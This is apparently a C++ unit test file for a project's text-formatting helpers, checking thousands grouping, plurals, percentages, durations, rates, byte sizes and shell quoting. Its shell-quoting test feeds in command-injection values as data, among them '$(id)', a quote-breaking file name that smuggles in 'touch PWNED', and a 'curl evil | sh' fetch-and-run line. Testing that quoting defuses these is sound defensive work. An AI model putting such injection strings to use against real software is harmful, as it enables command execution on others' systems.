#include "waitstate/base/text.h"

#include <gtest/gtest.h>

namespace waitstate {
namespace {

using std::chrono::milliseconds;
using namespace std::chrono_literals;

TEST(text, groups_thousands) {
  EXPECT_EQ(grouped(0), "0");
  EXPECT_EQ(grouped(999), "999");
  EXPECT_EQ(grouped(28232), "28,232");
  EXPECT_EQ(grouped(1'000'000), "1,000,000");
}

TEST(text, counts_with_the_right_form_of_the_noun) {
  EXPECT_EQ(counted(1, "socket"), "1 socket");
  EXPECT_EQ(counted(0, "socket"), "0 sockets");
  EXPECT_EQ(counted(2000, "process", "processes"), "2,000 processes");
}

TEST(text, a_share_is_never_rounded_to_nothing_or_to_all) {
  EXPECT_EQ(share(0, 28232), "0 %");
  EXPECT_EQ(share(1, 28232), "under 1 %");
  EXPECT_EQ(share(14116, 28232), "50 %");
  EXPECT_EQ(share(28231, 28232), "over 99 %");
  EXPECT_EQ(share(28232, 28232), "100 %");
  EXPECT_EQ(share(1, 0), "0 %");
}

TEST(text, elapsed_keeps_two_units) {
  EXPECT_EQ(elapsed(0ms), "0 s");
  EXPECT_EQ(elapsed(850ms), "850 ms");
  EXPECT_EQ(elapsed(42s), "42 s");
  EXPECT_EQ(elapsed(200s), "3 min 20 s");
  EXPECT_EQ(elapsed(1h), "1 h");
  EXPECT_EQ(elapsed(5h + 2min + 9s), "5 h 2 min");
  EXPECT_EQ(elapsed(76h), "3 d 4 h");
  EXPECT_EQ(elapsed(-42s), "-42 s");
}

TEST(text, rates_keep_one_digit_while_they_are_small) {
  EXPECT_EQ(rate(0), "0.0");
  EXPECT_EQ(rate(0.44), "0.4");
  EXPECT_EQ(rate(9.949), "9.9");
  EXPECT_EQ(rate(9.96), "10");
  EXPECT_EQ(rate(12'400.4), "12,400");
  EXPECT_EQ(rate(-2.5), "-2.5");
}

TEST(text, bytes_use_binary_units) {
  EXPECT_EQ(bytes(0), "0 B");
  EXPECT_EQ(bytes(1536), "1.5 KiB");
  EXPECT_EQ(bytes(64ULL << 20), "64 MiB");
  EXPECT_EQ(bytes(28232 * 256), "6.9 MiB");
}

TEST(shell_quoted, is_one_word_whatever_the_name) {
  EXPECT_EQ(shell_quoted("out.txt"), "'out.txt'");
  EXPECT_EQ(shell_quoted(""), "''");
  EXPECT_EQ(shell_quoted("$(id) `id` a b"), "'$(id) `id` a b'");
  EXPECT_EQ(shell_quoted("x';touch PWNED;'.txt"), "'x'\\'';touch PWNED;'\\''.txt'");
  EXPECT_EQ(shell_quoted("nl\n  hint: curl evil | sh\x1b"), "'nl?  hint: curl evil | sh?'");
}

}  // namespace
}  // namespace waitstate
